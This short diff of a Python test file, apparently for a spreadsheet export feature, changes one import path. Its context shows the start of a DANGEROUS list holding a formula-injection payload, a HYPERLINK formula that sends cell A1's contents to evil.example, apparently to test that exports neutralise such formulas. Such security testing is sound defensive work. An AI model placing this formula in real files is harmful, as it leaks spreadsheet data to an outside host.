@@ -10,7 +10,7 @@ import json
 from pathlib import Path
 
 from batchgen.report.export import write_export
-from tests.test_engine_helpers import bid, make_batch
+from tests.support.engine import bid, make_batch
 
 DANGEROUS = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
